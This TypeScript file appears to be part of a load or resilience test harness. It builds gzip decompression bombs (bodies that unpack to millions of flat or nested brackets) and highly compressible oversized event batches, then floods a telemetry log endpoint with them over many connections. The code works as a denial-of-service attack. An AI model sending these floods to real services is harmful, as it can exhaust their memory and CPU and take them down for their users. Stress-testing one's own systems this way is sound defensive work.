import { randomBytes } from 'node:crypto';
import { Agent } from 'node:http';
import { gzipSync } from 'node:zlib';
import { logEndpoints } from '../../../shared/telemetry/log-event.ts';
import type { Flood } from '../flood.ts';
import { atPace } from './at-pace.ts';
import { post } from './post.ts';

/** 2 % of the rate limit of 30,000 a minute. */
const recipePerSec = 10;
const connections = 64;
const unpackedBytes = 4_000_000;
const path = logEndpoints.log_event;
const headers = { 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' };

/** H2: bodies of 4 KB that unpack to millions of brackets, side by side and nested. */
export const bracketBombs: Flood = async (target) => {
  const flat = gzipSync(`{"events":[${'[],'.repeat(unpackedBytes / 3 - 10)}[]]}`);
  const nested = gzipSync(`${'['.repeat(unpackedBytes / 2)}${']'.repeat(unpackedBytes / 2)}`);
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  const count = { requests: 0, sentBytes: 0, statuses: {} };
  await atPace(recipePerSec * target.scale, target.forMs, () =>
    post(target, { agent, path, headers, body: count.requests % 2 === 0 ? flat : nested }, count),
  );
  agent.destroy();
  return count;
};

/** H2: well-formed batches whose events are large and compress to nearly nothing. */
export const largeEvents: Flood = async (target) => {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  const count = { requests: 0, sentBytes: 0, statuses: {} };
  await atPace(recipePerSec * target.scale, target.forMs, () => {
    const sid = randomBytes(16).toString('hex');
    const event = { eventTimeMs: 1, context: { lastActivityMs: 1 }, name: 'note' };
    const batch = {
      context: { client: { clientName: 'attack', clientVersion: '1', hl: 'en' } },
      sid,
      requestTimeMs: 1,
      serializedClientEventId: sid,
      events: [{ ...event, seq: 1, payload: { text: ' '.repeat(unpackedBytes - 1_000) } }],
    };
    return post(
      target,
      { agent, path, headers, body: gzipSync(JSON.stringify(batch), { level: 1 }) },
      count,
    );
  });
  agent.destroy();
  return count;
};
